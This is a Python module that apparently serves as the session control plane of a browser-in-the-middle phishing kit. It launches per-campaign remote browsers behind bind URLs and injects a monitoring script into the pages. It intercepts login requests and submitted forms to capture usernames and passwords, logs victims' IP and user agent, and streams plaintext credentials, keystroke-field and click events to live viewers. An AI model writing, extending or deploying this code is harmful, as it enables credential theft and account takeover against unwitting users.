"""Session registry: the single owner of every live browser session.

One SessionBroker is constructed at startup and handed to the HTTP routes,
the WebSocket channel and the cleanup scheduler. All session state for a
token lives in one SessionHandle, so metadata, process and page cannot drift
apart.
"""

from __future__ import annotations

import asyncio
import logging
import sys
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any, Optional, Protocol, Sequence, Union

from pydantic import ValidationError

from ..config import (
    AUTH_HOSTS,
    NAVIGATION_TIMEOUT,
    PUBLIC_BASE_URL,
    VIEWPORT_HEIGHT,
    VIEWPORT_WIDTH,
)
from ..constants import API_PREFIX, BIND_PREFIX
from ..database.repository import SessionRepository
from ..models.action import Action, ActionKind, ActionResult, parse_action
from ..models.session import (
    CapturedCredential,
    NavigationEntry,
    OriginContext,
    PersistedSessionRecord,
    SessionInfo,
    SessionState,
    utcnow,
)
from .actions import execute_action
from .browser import BrowserHandle, InterceptedRequest
from .errors import LaunchFailure, PageUnavailable, RestoreFailure, SessionNotFound
from .fanout import ViewerHub
from .interception import build_instrumentation_script, credentials_from_request, extract_from_pairs
from .navigation import navigate_with_fallback, navigation_policy

logger = logging.getLogger(__name__)
if not logger.handlers:
    handler = logging.StreamHandler(sys.stderr)
    handler.setFormatter(logging.Formatter("%(asctime)s [%(name)s] %(levelname)s: %(message)s"))
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)


class Launcher(Protocol):
    async def launch(self, session_token: str, viewport: dict, *, fresh: bool) -> BrowserHandle: ...


@dataclass
class SessionHandle:
    """Everything the control plane knows about one session."""

    session_token: str
    campaign_id: str
    origin: OriginContext
    target_urls: tuple[str, ...] = ()
    state: SessionState = SessionState.LAUNCHING
    created_at: datetime = field(default_factory=utcnow)
    last_activity: datetime = field(default_factory=utcnow)
    current_url: str = ""
    history: list[NavigationEntry] = field(default_factory=list)
    credentials: list[CapturedCredential] = field(default_factory=list)
    debugging_url: Optional[str] = None
    browser: Optional[BrowserHandle] = None

    @property
    def is_active(self) -> bool:
        return (
            self.state == SessionState.ACTIVE
            and self.browser is not None
            and not self.browser.is_closed
        )

    @property
    def viewport(self) -> dict:
        return {
            "width": self.origin.screen_width or VIEWPORT_WIDTH,
            "height": self.origin.screen_height or VIEWPORT_HEIGHT,
        }

    def touch(self):
        self.last_activity = utcnow()


def _parse(action: Any, params: Any) -> Union[Action, ActionResult]:
    """Typed action, or the failed result explaining why there is none."""
    if not isinstance(action, str):
        return ActionResult(success=False, message=f"Unknown action: {action!r}")
    if not isinstance(params, dict):
        return ActionResult(success=False, message=f"Invalid parameters for {action}: params must be an object")
    try:
        return parse_action(action, params)
    except ValidationError as e:
        if action not in {kind.value for kind in ActionKind}:
            return ActionResult(success=False, message=f"Unknown action: {action}")
        return ActionResult(success=False, message=f"Invalid parameters for {action}: {e.errors()[0]['msg']}")


class SessionBroker:
    """Creates, restores, drives and closes browser sessions."""

    def __init__(
        self,
        launcher: Launcher,
        repo: Optional[SessionRepository] = None,
        hub: Optional[ViewerHub] = None,
        *,
        auth_hosts: Sequence[str] = AUTH_HOSTS,
        public_base_url: str = PUBLIC_BASE_URL,
        navigation_timeout: int = NAVIGATION_TIMEOUT,
    ):
        self._launcher = launcher
        self._repo = repo
        self.hub = hub or ViewerHub()
        self._auth_hosts = list(auth_hosts)
        self._public_base_url = public_base_url.rstrip("/")
        self._report_base = f"{self._public_base_url}{API_PREFIX}"
        self._navigation_timeout = navigation_timeout
        self._sessions: dict[str, SessionHandle] = {}
        self._locks: dict[str, asyncio.Lock] = {}
        self._lock_users: dict[str, int] = {}
        self._tasks: set[asyncio.Task] = set()

    # ── Queries ──────────────────────────────────────────────────────────────

    def lookup(self, session_token: str) -> Optional[SessionInfo]:
        session = self._sessions.get(session_token)
        return self._info(session) if session else None

    def list_sessions(self) -> list[SessionInfo]:
        return [self._info(session) for session in list(self._sessions.values())]

    def credentials(self, session_token: str) -> list[CapturedCredential]:
        session = self._sessions.get(session_token)
        return list(session.credentials) if session else []

    def history(self, session_token: str) -> list[NavigationEntry]:
        session = self._sessions.get(session_token)
        return list(session.history) if session else []

    def bind_url(self, session_token: str) -> str:
        return f"{self._public_base_url}{BIND_PREFIX}/{session_token}"

    def _info(self, session: SessionHandle) -> SessionInfo:
        return SessionInfo(
            session_token=session.session_token,
            campaign_id=session.campaign_id,
            created_at=session.created_at,
            last_activity=session.last_activity,
            state=session.state,
            is_active=session.is_active,
            viewer_count=self.hub.count(session.session_token),
            credentials_count=len(session.credentials),
            current_url=session.current_url,
            debugging_url=session.debugging_url,
            bind_url=self.bind_url(session.session_token),
        )

    def _require(self, session_token: str) -> SessionHandle:
        session = self._sessions.get(session_token)
        if session is None:
            raise SessionNotFound(session_token)
        if session.browser is None:
            raise PageUnavailable(f"Session {session_token} is still {session.state.value}")
        return session

    @asynccontextmanager
    async def _token_lock(self, session_token: str):
        """Serialise lifecycle work per token.

        The lock is forgotten once nobody holds or waits on it and the token
        has no session, so unknown tokens leave nothing behind.
        """
        lock = self._locks.get(session_token)
        if lock is None:
            lock = self._locks[session_token] = asyncio.Lock()
        self._lock_users[session_token] = self._lock_users.get(session_token, 0) + 1
        try:
            async with lock:
                yield
        finally:
            self._lock_users[session_token] -= 1
            if not self._lock_users[session_token]:
                del self._lock_users[session_token]
                if session_token not in self._sessions:
                    self._locks.pop(session_token, None)

    # ── Lifecycle ────────────────────────────────────────────────────────────

    async def create(
        self,
        session_token: str,
        campaign_id: str,
        origin: Optional[OriginContext] = None,
        target_urls: Optional[Sequence[str]] = None,
    ) -> SessionInfo:
        """Launch a browser for the token and drive it to a target.

        Returns the existing session if the token is already live. Raises
        LaunchFailure if no browser could be started.
        """
        async with self._token_lock(session_token):
            existing = self._sessions.get(session_token)
            if existing is not None and existing.is_active:
                logger.info(f"Session {session_token} already active, reusing it")
                return self._info(existing)
            if existing is not None:
                await self._teardown(existing, "replaced")
            return await self._start(session_token, campaign_id, origin, target_urls, restoring=False)

    async def get_or_restore(self, session_token: str, origin: Optional[OriginContext] = None) -> SessionInfo:
        """Return the live session, relaunching it from its durable record if needed.

        Raises SessionNotFound when the token was never created.
        """
        async with self._token_lock(session_token):
            existing = self._sessions.get(session_token)
            if existing is not None and existing.is_active:
                return self._info(existing)
            if existing is not None:
                await self._teardown(existing, "stale")

            record = await self._get_record(session_token)
            if record is None:
                raise SessionNotFound(session_token)

            logger.info(f"Restoring session {session_token} (campaign {record.campaign_id})")
            try:
                return await self._start(session_token, record.campaign_id, origin, None, restoring=True)
            except LaunchFailure as e:
                failure = RestoreFailure(f"Relaunch of {session_token} failed: {e}")
                logger.warning(f"{failure}; creating a fresh session instead")

            return await self._start(session_token, record.campaign_id, origin, None, restoring=False)

    async def close(self, session_token: str, reason: str = "requested") -> bool:
        """Close the session. Returns False if there was nothing to close."""
        async with self._token_lock(session_token):
            session = self._sessions.get(session_token)
            if session is None:
                return False
            await self._teardown(session, reason)
            return True

    async def sweep(self, max_age: timedelta, now: Optional[datetime] = None) -> list[str]:
        """Close every session created more than max_age ago, whatever its activity."""
        now = now or utcnow()
        expired = [
            token for token, session in list(self._sessions.items())
            if now - session.created_at > max_age
        ]
        closed = []
        for token in expired:
            logger.info(f"Cleaning up expired session: {token}")
            if await self.close(token, reason="expired"):
                closed.append(token)
        return closed

    async def shutdown(self):
        for token in list(self._sessions):
            await self.close(token, reason="shutdown")
        if self._tasks:
            await asyncio.gather(*self._tasks, return_exceptions=True)

    async def _start(
        self,
        session_token: str,
        campaign_id: str,
        origin: Optional[OriginContext],
        target_urls: Optional[Sequence[str]],
        *,
        restoring: bool,
    ) -> SessionInfo:
        session = SessionHandle(
            session_token=session_token,
            campaign_id=campaign_id,
            origin=origin or OriginContext(),
            target_urls=tuple(target_urls or ()),
            state=SessionState.RESTORING if restoring else SessionState.LAUNCHING,
        )
        self._sessions[session_token] = session
        logger.info(f"{'Restoring' if restoring else 'Creating'} browser session: {session_token}")

        try:
            session.browser = await self._launcher.launch(session_token, session.viewport, fresh=not restoring)
        except Exception as e:
            if self._sessions.get(session_token) is session:
                del self._sessions[session_token]
            session.state = SessionState.CLOSED
            if isinstance(e, LaunchFailure):
                raise
            raise LaunchFailure(f"Browser for {session_token} could not be launched: {e}") from e

        try:
            self._attach(session)
            await self._instrument(session)
            if not restoring:
                await self._save_record(session)

            policy = navigation_policy(session.target_urls, self._navigation_timeout)
            session.current_url = await navigate_with_fallback(session.browser, policy)
            session.debugging_url = await session.browser.debugging_url()
        except Exception as e:
            logger.error(f"Session {session_token} died during startup: {e}")
            await self._teardown(session, "startup failed")
            raise LaunchFailure(f"Browser for {session_token} failed during startup: {e}") from e

        session.state = SessionState.ACTIVE
        session.touch()
        logger.info(f"Browser session ready: {session_token} at {session.current_url}")
        info = self._info(session)
        self.hub.publish(session_token, "sessionInfo", info.to_wire())
        return info

    async def _teardown(self, session: SessionHandle, reason: str):
        token = session.session_token
        if self._sessions.get(token) is session:
            del self._sessions[token]
        session.state = SessionState.CLOSED
        if session.browser is not None:
            await session.browser.close()
        self.hub.publish(token, "sessionClosed", {"reason": reason})
        self.hub.drop_group(token)
        logger.info(f"Closed browser session {token} ({reason})")

    async def _close_if_current(self, session: SessionHandle, reason: str):
        async with self._token_lock(session.session_token):
            if self._sessions.get(session.session_token) is session:
                await self._teardown(session, reason)

    # ── Browser wiring ───────────────────────────────────────────────────────

    def _attach(self, session: SessionHandle):
        browser = session.browser
        browser.on_navigation(lambda url: self._on_navigation(session, url))
        browser.on_request(lambda request: self._on_request(session, request))
        browser.on_disconnect(lambda: self._spawn(self._close_if_current(session, "browser disconnected")))

    async def _instrument(self, session: SessionHandle):
        script = build_instrumentation_script(self._report_base, session.session_token)
        try:
            await session.browser.add_init_script(script)
        except PageUnavailable:
            raise
        except Exception as e:
            logger.warning(f"Could not inject monitoring script for {session.session_token}: {e}")

    def _on_navigation(self, session: SessionHandle, url: str):
        session.current_url = url
        session.history.append(NavigationEntry(url=url))
        session.touch()
        logger.info(f"Navigation [{session.session_token}]: {url}")
        self.hub.publish(session.session_token, "pageNavigation", {"url": url, "title": ""})

    def _on_request(self, session: SessionHandle, request: InterceptedRequest):
        found = credentials_from_request(request, self._auth_hosts, ignore_origin=self._report_base)
        if found:
            self._record_credential(session, found, request.url, "network")

    def _record_credential(self, session: SessionHandle, found: dict[str, str], url: str, method: str) -> CapturedCredential:
        credential = CapturedCredential(
            session_token=session.session_token,
            campaign_id=session.campaign_id,
            email_or_username=found.get("identifier"),
            password=found.get("secret"),
            source_url=url,
            capture_method=method,
            ip=session.origin.ip,
            user_agent=session.origin.user_agent,
        )
        session.credentials.append(credential)
        session.touch()
        logger.info(f"Credentials captured for {session.session_token} via {method} from {url}")
        self.hub.publish(
            session.session_token,
            "credentialsCaptured",
            {
                "credentials": {
                    "emailOrUsername": credential.email_or_username,
                    "password": credential.password,
                },
                "url": url,
                "source": method,
            },
        )
        self._spawn(self._store_credential(credential))
        return credential

    # ── Commands ─────────────────────────────────────────────────────────────

    async def screenshot(self, session_token: str, fast: bool = False, hq: bool = False) -> bytes:
        session = self._require(session_token)
        try:
            return await session.browser.screenshot(fast=fast, hq=hq)
        except PageUnavailable:
            await self._close_if_current(session, "page unavailable")
            raise

    async def execute_action(self, session_token: str, action: str, params: Optional[dict[str, Any]] = None) -> ActionResult:
        """Apply one viewer command and broadcast its outcome.

        Unknown or malformed actions come back as ``success=False``. Raises
        SessionNotFound for unknown tokens and PageUnavailable when the page is gone.
        """
        session = self._require(session_token)
        params = params or {}
        logger.info(f"Executing action [{session_token}]: {action}")

        parsed = _parse(action, params)
        if isinstance(parsed, ActionResult):
            result = parsed
        else:
            try:
                result = await execute_action(session.browser, parsed)
            except PageUnavailable:
                await self._close_if_current(session, "page unavailable")
                raise

        session.touch()
        self.hub.publish(
            session_token,
            "actionExecuted",
            {"action": action, "params": params, "result": result.model_dump()},
        )
        return result

    # ── Instrumentation reports ──────────────────────────────────────────────

    def report_form(self, session_token: str, form_data: dict[str, Any], url: str) -> Optional[CapturedCredential]:
        session = self._sessions.get(session_token)
        if session is None:
            raise SessionNotFound(session_token)
        found = extract_from_pairs((form_data or {}).items())
        if not found:
            return None
        return self._record_credential(session, found, url, "form_capture")

    def report_input(self, session_token: str, field_type: str, name: str, url: str):
        session = self._sessions.get(session_token)
        if session is None:
            raise SessionNotFound(session_token)
        session.touch()
        self.hub.publish(session_token, "inputCaptured", {"type": field_type, "name": name, "url": url})

    def report_click(self, session_token: str, element: dict[str, Any], url: str):
        session = self._sessions.get(session_token)
        if session is None:
            raise SessionNotFound(session_token)
        session.touch()
        self.hub.publish(session_token, "clickTracked", {"element": element, "url": url})

    # ── Persistence ──────────────────────────────────────────────────────────

    async def _save_record(self, session: SessionHandle):
        if self._repo is None:
            return
        record = PersistedSessionRecord(
            session_token=session.session_token,
            campaign_id=session.campaign_id,
            created_at=session.created_at,
        )
        try:
            await self._repo.save_record(record)
        except Exception as e:
            # The in-memory session still works; only restoration is affected
            logger.error(f"Failed to persist session record {session.session_token}: {e}")

    async def _get_record(self, session_token: str) -> Optional[PersistedSessionRecord]:
        if self._repo is None:
            return None
        return await self._repo.get_record(session_token)

    async def _store_credential(self, credential: CapturedCredential):
        if self._repo is None:
            return
        try:
            await self._repo.save_credential(credential)
        except Exception as e:
            logger.error(f"Failed to store credentials for {credential.session_token}: {e}")

    def _spawn(self, coro):
        task = asyncio.get_running_loop().create_task(coro)
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)
        return task
